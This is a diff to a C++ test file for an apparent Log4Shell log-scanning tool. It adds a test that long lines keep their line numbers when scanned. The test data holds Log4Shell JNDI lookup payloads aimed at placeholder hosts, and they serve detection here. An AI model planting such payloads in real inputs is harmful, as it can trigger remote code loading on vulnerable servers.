@@ -11,13 +11,13 @@
 namespace l4s::hunt {
 namespace {
 
-FileHunt HuntData(const std::string& data) {
+FileHunt HuntData(const std::string& data, const HuntOptions& options = {}) {
   char path[] = "/tmp/l4s_hunt_file_test_XXXXXX";
   int fd = mkstemp(path);
   EXPECT_GE(fd, 0);
   EXPECT_EQ(write(fd, data.data(), data.size()), static_cast<ssize_t>(data.size()));
   close(fd);
-  FileHunt h = HuntPath(path);
+  FileHunt h = HuntPath(path, options);
   unlink(path);
   return h;
 }
@@ -50,6 +50,21 @@ TEST(HuntFile, ZeekHeaderGivesColumns) {
   ASSERT_EQ(h.detections.size(), 1u);
   EXPECT_EQ(h.detections[0].source_ip, "45.137.21.9");
   EXPECT_EQ(h.detections[0].timestamp, "2021-12-11T05:20:00.5Z");
+}
+
+TEST(HuntFile, OverLongLinesKeepTheirLineNumber) {
+  HuntOptions small;
+  small.read.block_size = 4096;
+  small.read.max_line = 8192;
+  std::string data = "a\n" + std::string(50000, 'x') + " ${jndi:ldap://long.example/a}\nb ${jndi:ldap://next.example/a}\nc";
+  FileHunt h = HuntData(data, small);
+  ASSERT_TRUE(h.status.ok());
+  EXPECT_EQ(h.lines, 4u);
+  ASSERT_EQ(h.detections.size(), 2u);
+  EXPECT_EQ(h.detections[0].line, 2u);
+  EXPECT_EQ(h.detections[0].jndi[0].host, "long.example");
+  EXPECT_EQ(h.detections[1].line, 3u);
+  EXPECT_EQ(h.detections[1].offset, data.find("b ${"));
 }
 
 TEST(HuntFile, UnreadableIsAnError) {
